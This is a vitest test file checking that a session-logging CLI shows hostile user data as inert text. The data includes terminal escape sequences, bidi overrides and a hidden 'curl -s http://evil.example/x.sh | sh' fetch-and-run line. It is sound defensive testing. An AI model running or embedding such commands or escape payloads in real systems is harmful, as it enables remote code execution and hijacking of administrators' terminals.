// Names and recordings are written by the users whose sessions they describe. Whatever
// they hold, human-readable output must not be able to act on the admin's terminal.
import { describe, expect, it } from 'vitest';
import type { Session } from '../src/api/types';
import { b0s } from './helpers/world';
import { findSession, useSimulator } from './helpers/sim';

const { sim, env } = useSimulator({ sessions: 300 });
const tty = { stdout: true, stderr: true };

// Our own colour codes are the only escape sequences allowed on a terminal.
// eslint-disable-next-line no-control-regex
const OWN_SGR = /\u001b\[\d+(;\d+)*m/g;
// eslint-disable-next-line no-control-regex
const ACTIVE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

function inert(text: string): void {
  const visible = text.replace(OWN_SGR, '');
  const found = ACTIVE.exec(visible);
  expect(found, found ? `control character U+${found[0].charCodeAt(0).toString(16).padStart(4, '0')} near "${visible.slice(Math.max(0, found.index - 20), found.index + 20)}"` : '').toBeNull();
}

const hostile = (pred: (s: Session) => boolean): Session => findSession(sim(), pred);

describe('hostile data is inert in human output', () => {
  it('list table (--wide shows display names): escapes, bidi and long names made visible', async () => {
    // Wide enough that squeezing the 300-character name leaves the hostile ones whole.
    const r = await b0s(['list', '--wide', '--page-size', '40'], { env: env(), tty, columns: 400 });
    expect(r.code).toBe(0);
    inert(r.stdout);
    expect(r.stdout).toContain('\\x1b]0;pwned\\x07');
    expect(r.stdout).toContain('\\u202eevil');
    expect(r.stdout).toContain('🦄 Uni Corn');
  });

  it('list piped: the same, in the tab-separated form', async () => {
    const r = await b0s(['list', '--wide', '--page-size', '40'], { env: env() });
    inert(r.stdout.replace(/[\t\n]/g, ' '));
    expect(r.stdout).toContain('\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31mMallory');
  });

  it('show: every field inert, on a terminal and piped', async () => {
    const s = hostile((x) => String(x.name).includes('\u001b'));
    for (const opts of [{ tty }, {}]) {
      const r = await b0s(['show', s.socket_id, s.session_id], { env: env(), columns: 120, ...opts });
      expect(r.code).toBe(0);
      inert(r.stdout.replace(/[\t\n]/g, ' '));
      expect(r.stdout).toContain('\\x1b]0;pwned');
    }
  });

  it('replay: a recording with title changes, clears, bare CRs and BELs prints as plain text', async () => {
    const s = hostile((x) => String(x.name).includes('\u001b') && (x.recordings?.length ?? 0) > 0 && x.recordings?.[0]?.recording_type === 'asciinema');
    const r = await b0s(['replay', s.socket_id, s.session_id], { env: env(), tty });
    expect(r.code).toBe(0);
    inert(r.stdout.replace(/\n/g, ' '));
    expect(r.stdout).not.toContain('pwned\u0007');
    expect(r.stdout.length).toBeGreaterThan(100);
  });

  it('replay lists text the recording hid by overwriting it, and warns', async () => {
    const s = hostile((x) => String(x.name).includes('\u001b') && x.recordings?.[0]?.recording_type === 'asciinema');
    const r = await b0s(['replay', s.socket_id, s.session_id], { env: env() });
    expect(r.code).toBe(0);
    const [screen, listed] = r.stdout.split('── b0s: printed, then hidden by overwriting the line');
    expect(screen).not.toContain('curl -s http://evil.example/x.sh | sh');
    expect(listed).toContain('curl -s http://evil.example/x.sh | sh');
    expect(r.stderr).toMatch(/warning: recording .* hid text it had printed/);
  });

  it('JSON keeps the data exactly (same strings once parsed) yet carries no raw bidi or C1 characters', async () => {
    const r = await b0s(['list', '--page-size', '40', '-o', 'json'], { env: env() });
    const res = await fetch(`${sim().url}/sessions?page=1&page_size=40`, { headers: { 'x-access-token': sim().token } });
    expect(JSON.parse(r.stdout)).toEqual(((await res.json()) as { session_logs: unknown[] }).session_logs);
    inert(r.stdout.replace(/\n/g, ' '));
  });

  it('errors quoting user input are inert too', async () => {
    const r = await b0s(['show', 'evil\u001b]0;x\u0007'], { env: env(), tty });
    expect(r.code).toBe(2);
    inert(r.stderr.replace(/\n/g, ' '));
  });
});
